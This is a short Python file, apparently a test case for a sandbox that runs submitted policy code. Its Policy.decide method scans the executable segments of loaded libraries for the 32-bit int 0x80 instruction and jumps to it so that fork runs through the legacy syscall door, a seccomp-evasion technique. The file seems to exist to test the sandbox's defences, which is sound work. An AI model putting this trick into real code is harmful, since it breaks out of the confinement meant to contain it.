"""Enters the kernel by the 32-bit door with code that is already there: it looks for the two bytes
of the instruction in the code of every loaded library and jumps to them. The number of the call is
the number of floating-point arguments: with two it is fork.

stopped by: seccomp
ends: security, crash, ok
"""

import ctypes
import struct
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
X86 = "x86_64" in sys.implementation._multiarch
LOAD, EXECUTABLE = 1, 1


def word(address):
    return ctypes.c_uint64.from_address(address).value


def libraries():
    """Yield where each loaded library begins, from the loader's own list for debuggers."""
    try:
        entry = word(ctypes.addressof(ctypes.c_char.in_dll(LIBC, "_r_debug")) + 8)
    except ValueError:
        return
    while entry:
        yield word(entry)
        entry = word(entry + 24)


def code():
    for base in libraries():
        if base and ctypes.string_at(base, 4) == b"\x7fELF":
            table, count = (
                base + word(base + 32),
                struct.unpack("<H", ctypes.string_at(base + 56, 2)),
            )
            for header in range(table, table + 56 * count[0], 56):
                kind, rights = struct.unpack("<II", ctypes.string_at(header, 8))
                if kind == LOAD and rights & EXECUTABLE:
                    yield base + word(header + 16), word(header + 40)


class Policy:
    def __init__(self, setup):
        pass

    def decide(self, obs):
        for start, length in code() if X86 else ():
            place = ctypes.string_at(start, length).find(b"\xcd\x80")
            if place >= 0:
                two_floats = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_double, ctypes.c_double)
                two_floats(start + place)(0.0, 0.0)
                return 2
        return obs.last
